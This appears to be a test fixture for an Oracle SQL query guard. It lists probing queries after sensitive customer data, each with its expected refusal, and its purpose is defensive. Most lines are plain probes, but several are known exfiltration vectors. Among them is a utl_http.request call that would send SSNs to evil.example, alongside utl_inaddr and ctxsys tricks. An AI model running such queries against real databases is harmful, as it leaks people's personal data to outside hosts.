-- dialects: oracle
-- Statements that want what is hidden. Nothing of these is run: each must be refused, or come out with no more
-- than the views of what may be seen in it.

-- Read and written only; nothing of it is run

SELECT * FROM customers;
-- refused: table, CUSTOMERS

SELECT ssn FROM customers;
-- refused: table, CUSTOMERS

SELECT * FROM "customers";
-- taken

SELECT * FROM customers c WHERE c.ROWID IS NOT NULL;
-- refused: system-column, ROWID

SELECT ROWNUM, name FROM customers;
-- refused: system-column, ROWNUM

SELECT ORA_ROWSCN FROM customers;
-- refused: system-column, ORA_ROWSCN

SELECT * FROM customers AS OF SCN 1;
-- refused: clause, VERSION

SELECT * FROM customers AS OF TIMESTAMP SYSTIMESTAMP;
-- refused: clause, VERSION

SELECT * FROM customers VERSIONS BETWEEN SCN MINVALUE AND MAXVALUE;
-- refused: syntax

SELECT * FROM customers@remote;
-- refused: table, CUSTOMERS@REMOTE

SELECT * FROM customers SAMPLE (10);
-- refused: clause, SAMPLE

SELECT * FROM customers PARTITION (p1);
-- refused: clause, PARTITION

SELECT dbms_xmlgen.getxml('select ssn from customers') FROM dual;
-- refused: syntax-node, DOT

SELECT dbms_xmlquery.getxml('select 1 from dual') FROM dual;
-- refused: syntax-node, DOT

SELECT utl_http.request('http://evil.example/' || ssn) FROM customers;
-- refused: syntax-node, DOT

SELECT utl_inaddr.get_host_address(ssn) FROM customers;
-- refused: syntax-node, DOT

SELECT ctxsys.drithsx.sn(1, ssn) FROM customers;
-- refused: syntax-node, DOT

SELECT extractvalue(xmltype(ssn), '/a') FROM customers;
-- refused: function, extractvalue

SELECT xmlquery('x' PASSING ssn RETURNING CONTENT) FROM customers;
-- refused: syntax

SELECT * FROM xmltable('/x' PASSING xmltype('<x/>'));
-- refused: table-function, /x

SELECT * FROM TABLE(dbms_xplan.display_cursor());
-- refused: table-function, TABLE

SELECT * FROM all_tab_columns;
-- refused: table, ALL_TAB_COLUMNS

SELECT * FROM all_tab_histograms;
-- refused: table, ALL_TAB_HISTOGRAMS

SELECT * FROM v$session;
-- refused: table, V$SESSION

SELECT * FROM sys.user$;
-- refused: table, USER$

SELECT sys_context('USERENV', 'SESSION_USER') FROM dual;
-- refused: function, sys_context

SELECT userenv('SID') FROM dual;
-- refused: function, userenv

SELECT user FROM dual;
-- refused: system-column, user

SELECT listagg(phone, ',') WITHIN GROUP (ORDER BY id) FROM customers;
-- refused: table, CUSTOMERS

SELECT max(phone) KEEP (DENSE_RANK FIRST ORDER BY id) FROM customers;
-- refused: table, CUSTOMERS

SELECT name FROM customers CONNECT BY PRIOR id = branch;
-- refused: clause, CONNECT

SELECT name FROM customers START WITH id = 1 CONNECT BY PRIOR id = branch;
-- refused: clause, CONNECT

SELECT name FROM customers MODEL DIMENSION BY (id) MEASURES (ssn) RULES ();
-- refused: syntax

SELECT * FROM customers MATCH_RECOGNIZE (MEASURES A.ssn AS s PATTERN (A) DEFINE A AS 1 = 1);
-- refused: clause, MATCH

SELECT c.id FROM customers c, accounts a WHERE c.id = a.no (+);
-- refused: clause, JOIN_MARK

SELECT q'[ ' ]' AS x, name FROM customers;
-- refused: syntax-node, RAWSTRING

SELECT /*+ FULL(c) */ name FROM customers c;
-- refused: clause, HINT

SELECT CURSOR(SELECT ssn FROM customers) FROM dual;
-- refused: function, CURSOR

WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; SELECT f FROM customers;
-- refused: syntax

WITH customers AS (SELECT * FROM customers) SELECT * FROM customers;
-- refused: table, CUSTOMERS

SELECT name INTO x FROM customers;
-- refused: clause, INTO

BEGIN EXECUTE IMMEDIATE 'select 1'; END;;
-- refused: syntax

SELECT ORA_HASH(ssn), STANDARD_HASH(phone) FROM customers;
-- refused: function, ORA_HASH

SELECT name FROM customers FETCH FIRST 1 ROWS ONLY;
-- refused: table, CUSTOMERS

SELECT name FROM customers FOR UPDATE;
-- refused: clause, LOCKS

EXPLAIN PLAN FOR SELECT * FROM customers;
-- refused: statement, EXPLAIN
